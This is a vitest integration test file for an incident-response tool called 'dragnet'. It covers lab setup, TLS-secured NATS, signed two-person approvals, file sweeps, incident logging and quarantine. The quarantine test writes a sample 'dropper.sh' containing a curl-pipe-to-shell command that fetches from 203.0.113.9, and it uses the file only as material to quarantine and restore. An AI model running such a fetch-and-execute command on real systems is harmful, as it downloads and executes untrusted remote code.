import { execFileSync, spawn } from "node:child_process";
import { existsSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { connect } from "@nats-io/transport-node";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { isAlive } from "../../common/pids.js";
import type { LabState } from "../../console/lab/lab.js";
import { dragnet, ndjson, ROOT, requireBuild, twoPeople } from "../helpers/cli.js";
import { eventually, tempDir } from "../helpers/fleet.js";

// The lab as a new user runs it: `dragnet lab up`, console commands with no
// flags but --home, then `dragnet lab down`.

let home: string;
let lab: LabState;
const passwdSha = execFileSync("sha256sum", ["/etc/passwd"], { encoding: "utf8" }).split(" ")[0]!;

beforeAll(async () => {
  requireBuild();
  home = tempDir("dragnet-lab-");
  const up = await dragnet(["--home", home, "lab", "up", "--agents", "3"]);
  expect(up.stderr + up.stdout).toMatch(/3 agents/);
  expect(up.code).toBe(0);
  lab = JSON.parse(readFileSync(join(home, "lab.json"), "utf8")) as LabState;
}, 90_000);

afterAll(async () => {
  // Whatever lab.json says now (a test may have failed half-way through a `lab up`).
  const current = home ? (JSON.parse(readFileSync(join(home, "lab.json"), "utf8")) as LabState) : undefined;
  if (current?.running) await dragnet(["--home", home, "lab", "down"]);
});

describe("the lab", () => {
  it("records what it started", () => {
    expect(lab.agents).toHaveLength(3);
    for (const p of [lab.nats, lab.coordinator, ...lab.agents]) expect(isAlive(p.pid)).toBe(true);
    expect(readFileSync(`/proc/${lab.agents[0]!.pid}/cmdline`, "utf8")).toContain("dragnet-agent");
  });

  it("runs NATS with TLS and a NATS user per agent, and ships the default ACL", async () => {
    const conf = readFileSync(lab.nats.config, "utf8");
    expect(conf).toMatch(/^tls \{/m);
    expect(conf).toMatch(/^operator: ey/m);
    // Plaintext is refused, and so is a TLS client without credentials.
    await expect(connect({ servers: lab.nats.url, tls: null, timeout: 2000 })).rejects.toThrow();
    await expect(connect({ servers: lab.nats.url, tls: { caFile: lab.ca }, timeout: 2000 })).rejects.toThrow(
      /Authorization Violation/i,
    );
    for (const a of lab.agents) {
      const creds = join(a.config, "..", "agent.creds");
      expect(statSync(creds).mode & 0o777).toBe(0o600);
      expect(JSON.parse(readFileSync(a.config, "utf8")).nats).toMatchObject({
        creds: "agent.creds",
        insecure: false,
      });
    }
    const ring = JSON.parse(readFileSync(lab.keyring, "utf8"));
    expect(ring.investigators.map((i: { name: string }) => i.name)).toEqual(["alice", "bob"]);
    expect(ring.acl.default).toEqual({ minWeight: 1 });
    for (const m of ["isolate", "unisolate", "kill", "quarantine", "collect"])
      expect(ring.acl[m]).toEqual({ minWeight: 2 });
    for (const k of [
      "alice.key",
      "bob.key",
      "ca.key",
      "coordinator.key",
      "nats-server.key",
      "coordinator.creds",
    ]) {
      expect(statSync(join(home, k)).mode & 0o777, k).toBe(0o600);
    }
  });

  it("lists its agents as NDJSON with the documented fields", async () => {
    const r = await dragnet(["--home", home, "agents", "--json"]);
    expect(r.code).toBe(0);
    const rows = ndjson(r.stdout);
    expect(rows).toHaveLength(3);
    expect(rows.map((x) => x.id).sort()).toEqual(lab.agents.map((a) => a.id).sort());
    for (const row of rows) {
      expect(Object.keys(row)).toEqual(
        expect.arrayContaining(["id", "hostname", "os", "addresses", "tags", "status", "isolated"]),
      );
      expect(row.status).toBe("online");
      expect((row.tags as Record<string, string>).lab).toBe("true");
    }
  });

  it("answers a file sweep: one row per agent, the SHA-256 sha256sum gives, exit 0", async () => {
    const r = await dragnet([
      "--home",
      home,
      "file",
      "-t",
      "all",
      "--path",
      "/etc",
      "--name",
      "^passwd$",
      "--sha256",
      passwdSha,
      "--json",
    ]);
    expect(r.code).toBe(0);
    const rows = ndjson(r.stdout);
    expect(rows).toHaveLength(3);
    expect(new Set(rows.map((x) => (x.agent as { id: string }).id))).toEqual(
      new Set(lab.agents.map((a) => a.id)),
    );
    for (const row of rows) {
      expect(row.path).toBe("/etc/passwd");
      expect(row.sha256).toBe(passwdSha);
      expect((row.agent as { hostname: string }).hostname).toMatch(/^lab-0[123]$/);
    }
    expect(r.stderr).toContain("3 targeted, 3 answered, 0 failed, 3 found");
  });

  it("exits 1 when nothing is found, and prints CSV with a header", async () => {
    const none = await dragnet([
      "--home",
      home,
      "file",
      "-t",
      "all",
      "--path",
      "/etc",
      "--name",
      "^no-such-file-anywhere$",
      "--json",
    ]);
    expect(none.code).toBe(1);
    expect(none.stdout).toBe("");
    expect(none.stderr).toContain("3 targeted, 3 answered, 0 failed, 0 found");
    const csv = await dragnet([
      "--home",
      home,
      "file",
      "-t",
      'tags.role == "web"',
      "--path",
      "/etc/passwd",
      "--csv",
    ]);
    expect(csv.code).toBe(0);
    const lines = csv.stdout.trim().split("\n");
    expect(lines[0]).toBe("hostname,agent,path,size,mode,mtime,sha256");
    expect(lines).toHaveLength(2);
    expect(lines[1]).toMatch(/^lab-01,/);
  });

  it("refuses an unknown investigator's key with the coordinator's reason, exit 2", async () => {
    const gen = await dragnet(["--home", home, "key", "generate", "--name", "eve"]);
    expect(gen.code).toBe(0);
    const r = await dragnet([
      "--home",
      home,
      "--key",
      join(home, "eve.key"),
      "file",
      "-t",
      "all",
      "--path",
      "/etc/passwd",
    ]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/key \w+ is not an investigator the coordinator knows/);
    expect(r.stderr).toContain("DRAGNET_E_UNAUTHENTICATED");
    const bob = await dragnet([
      "--home",
      home,
      "--key",
      join(home, "bob.key"),
      "file",
      "-t",
      "all",
      "--path",
      "/etc/passwd",
      "--json",
    ]);
    expect(bob.code).toBe(0);
    expect(ndjson(bob.stdout)).toHaveLength(3);
  });

  it("shows a target typo with its position before signing anything", async () => {
    const r = await dragnet(["--home", home, "file", "-t", "os == linux and", "--path", "/etc"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/expected a condition but the expression ended at position 16/);
    expect(r.stderr).toContain("  os == linux and\n                 ^");
  });

  it("lists and shows past actions", async () => {
    const list = await dragnet(["--home", home, "action", "list", "--json"]);
    expect(list.code).toBe(0);
    const actions = ndjson(list.stdout);
    expect(actions.length).toBeGreaterThanOrEqual(4);
    const sweep = actions.find((a) => a.found === 3 && a.targeted === 3)!;
    const show = await dragnet(["--home", home, "action", "show", String(sweep.id).slice(0, 12), "--json"]);
    expect(show.code).toBe(0);
    const rows = ndjson(show.stdout);
    expect(rows).toHaveLength(3);
    // For people: what was asked, decoded from the signed action, not just the counts.
    const table = await dragnet(["--home", home, "action", "show", String(sweep.id)]);
    expect(table.stdout).toMatch(
      /^operations:\n {2}1\. file \{"file":\{"searches":\[\{"label":"s1","paths":\[/m,
    );
    for (const row of rows) expect(row.status).toBe("success");
    const results = await dragnet([
      "--home",
      home,
      "action",
      "show",
      String(sweep.id),
      "--results",
      "--json",
    ]);
    expect(ndjson(results.stdout).length).toBeGreaterThanOrEqual(3);
    const follow = await dragnet(["--home", home, "action", "follow", String(sweep.id), "--json"]);
    expect(follow.code).toBe(0);
    expect(follow.stderr).toMatch(/3 targeted, 3 answered/);
  });

  it("prints one JSON object per line for every --json, also for commands that report what they did", async () => {
    const cli = (args: string[]) => dragnet(["--home", home, ...args, "--json"]);
    const parse = (r: { code: number; stdout: string; stderr: string }) => {
      expect([r.code, r.stderr.includes("Error")]).toEqual([0, false]);
      return ndjson(r.stdout);
    };
    const [opened] = parse(await cli(["incident", "open", "--title", "json everywhere"]));
    expect(opened).toMatchObject({ title: "json everywhere", severity: "medium", phase: "identification" });
    const id = String(opened!.id);
    expect(parse(await cli(["incident", "phase", id, "containment"]))).toEqual([
      { page: expect.any(Number), phase: "containment" },
    ]);
    expect(parse(await cli(["incident", "note", id, "seen at 10:02"]))).toEqual([
      { page: expect.any(Number), incident: id, signedBy: "alice" },
    ]);
    expect(parse(await cli(["incident", "verify", id]))).toEqual([
      { intact: true, pages: expect.any(Number) },
    ]);
    const [registered] = parse(
      await cli(["evidence", "register", "--incident", id, "--sha256", passwdSha, "--path", "/etc/passwd"]),
    );
    expect(registered).toMatchObject({ id: expect.any(String), sha256: passwdSha, incident: id });
    const [sent] = parse(await cli(["file", "-t", "all", "--path", "/etc/hostname", "--no-wait"]));
    expect(sent).toMatchObject({ actionId: expect.any(String), pendingApproval: false, targeted: 3 });
    const status = parse(await cli(["lab", "status"]));
    expect(status.filter((p) => p.state === "running").map((p) => p.role)).toContain("coordinator");
    expect(status.at(-1)).toEqual({ agents: { online: 3 } });
  });

  it("quarantines a file (two people), lists the vault (one), and restores it as it was (two)", async () => {
    const dir = tempDir("dragnet-quarantine-");
    const file = join(dir, "dropper.sh");
    writeFileSync(file, "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n", { mode: 0o755 });
    const sha = execFileSync("sha256sum", [file], { encoding: "utf8" }).split(" ")[0];
    const one = 'hostname == "lab-01"';
    const added = await twoPeople(home, ["quarantine", "add", "-t", one, "--path", file]);
    expect(added.code).toBe(0);
    expect(added.rows.map((r) => [r.originalPath, r.sha256])).toEqual([[file, sha]]);
    expect(existsSync(file)).toBe(false);
    // Listing changes nothing: alice alone may.
    const listed = await dragnet(["--home", home, "--json", "quarantine", "list", "-t", one]);
    expect(listed.code).toBe(0);
    expect(listed.stderr).not.toMatch(/waits for approval/);
    const row = ndjson(listed.stdout).find((r) => r.originalPath === file)!;
    expect(row).toMatchObject({ sha256: sha, restored: "" });
    const restored = await twoPeople(home, ["quarantine", "restore", "-t", one, "--id", String(row.id)]);
    expect(restored.code).toBe(0);
    expect(readFileSync(file, "utf8")).toContain("203.0.113.9");
    expect((statSync(file).mode & 0o777).toString(8)).toBe("755");
  });

  it("restarts its coordinator on the same database, agents still online", async () => {
    const before = ndjson((await dragnet(["--home", home, "action", "list", "--json"])).stdout).map(
      (a) => a.id,
    );
    const oldPid = lab.coordinator.pid;
    const r = await dragnet(["--home", home, "lab", "restart-coordinator"]);
    expect(r.code).toBe(0);
    lab = JSON.parse(readFileSync(join(home, "lab.json"), "utf8")) as LabState;
    expect(lab.coordinator.pid).not.toBe(oldPid);
    expect(isAlive(oldPid)).toBe(false);
    const after = ndjson((await dragnet(["--home", home, "action", "list", "--json"])).stdout).map(
      (a) => a.id,
    );
    expect(after).toEqual(before);
    const sweep = await dragnet(["--home", home, "file", "-t", "all", "--path", "/etc/passwd", "--json"]);
    expect(ndjson(sweep.stdout)).toHaveLength(3);
  });

  it("refuses to isolate a lab agent in the machine's own network namespace, saying why, before anyone signs", async () => {
    const before = ndjson((await dragnet(["--home", home, "action", "list", "--json"])).stdout).length;
    const r = await dragnet(["--home", home, "isolate", "-t", 'hostname == "lab-01"']);
    expect([r.code, r.stderr]).toEqual([
      2,
      expect.stringMatching(
        /lab-01: lab agent in this machine's own network namespace.*lab up --netns`, or --force-host if you mean it \(nothing was signed\)/,
      ),
    ]);
    expect(ndjson((await dragnet(["--home", home, "action", "list", "--json"])).stdout)).toHaveLength(before);
  });

  it("tells the approver of each action that starts waiting (action list --pending --follow)", async () => {
    const watcher = dragnet([
      "--home",
      home,
      "--json",
      "action",
      "list",
      "--pending",
      "--follow",
      "--count",
      "1",
    ]);
    await new Promise((r) => setTimeout(r, 500));
    const held = await dragnet([
      "--home",
      home,
      "memory",
      "-t",
      "all",
      "--name",
      "^nothing$",
      "--string",
      "x",
    ]);
    expect(held.code).toBe(3);
    const heldId = held.stdout.trim();
    const seen = await watcher;
    expect(seen.code).toBe(0);
    expect(ndjson(seen.stdout)).toEqual([
      expect.objectContaining({
        id: heldId,
        modules: ["memory"],
        signers: ["alice"],
        weight: 1,
        requiredWeight: 2,
      }),
    ]);
  });

  it("stops exactly what it started", async () => {
    // After the coordinator's restart an agent counts as online again from its next heartbeat.
    const status = await eventually(async () => {
      const r = await dragnet(["--home", home, "lab", "status"]);
      return r.stdout.includes("agents: 3 online") ? r : undefined;
    }, 30_000);
    expect(status.code).toBe(0);
    const down = await dragnet(["--home", home, "lab", "down"]);
    expect(down.code).toBe(0);
    for (const p of [lab.nats, lab.coordinator, ...lab.agents]) expect(isAlive(p.pid)).toBe(false);
    lab.running = false;
    const after = await dragnet(["--home", home, "lab", "status"]);
    expect(after.code).toBe(1);
  });

  it("starts again, fresh, in the same directory — here with a 3-node NATS cluster that survives losing a node", async () => {
    const up = await dragnet(["--home", home, "lab", "up", "--agents", "1", "--nats-nodes", "3"]);
    expect(up.code).toBe(0);
    lab = JSON.parse(readFileSync(join(home, "lab.json"), "utf8")) as LabState;
    const list = await dragnet(["--home", home, "action", "list", "--json"]);
    expect(list.stdout).toBe("");
    const agents = ndjson((await dragnet(["--home", home, "agents", "--json"])).stdout);
    expect(agents.map((a) => a.hostname)).toEqual(["lab-01"]);
    expect(lab.natsNodes).toHaveLength(3);
    const conf = readFileSync(lab.natsNodes![1]!.config, "utf8");
    expect(conf).toMatch(/^cluster \{/m);
    expect(JSON.parse(readFileSync(lab.coordinator.config, "utf8")).results).toEqual({ replicas: 3 });
    // Lose the node everyone connected to first; the sweep still answers.
    process.kill(lab.natsNodes![0]!.pid, "SIGKILL");
    const sweep = await dragnet(["--home", home, "file", "-t", "all", "--path", "/etc/passwd", "--json"]);
    expect(sweep.code).toBe(0);
    expect(ndjson(sweep.stdout)).toHaveLength(1);
    expect((await dragnet(["--home", home, "lab", "down"])).code).toBe(0);
    lab.running = false;
  }, 120_000);
});

describe("the console in a pipe", () => {
  it("exits 0 without a word when the reader goes away (dragnet … | head)", async () => {
    const child = spawn(process.execPath, [join(ROOT, "bin", "dragnet.js"), "file", "help"], {
      stdio: ["ignore", "pipe", "pipe"],
    });
    // The reader is gone before the first write: that write fails with EPIPE.
    child.stdout.destroy();
    let stderr = "";
    child.stderr.on("data", (d) => {
      stderr += d;
    });
    const code = await new Promise((resolve) => child.once("exit", resolve));
    expect([code, stderr]).toEqual([0, ""]);
  });
});
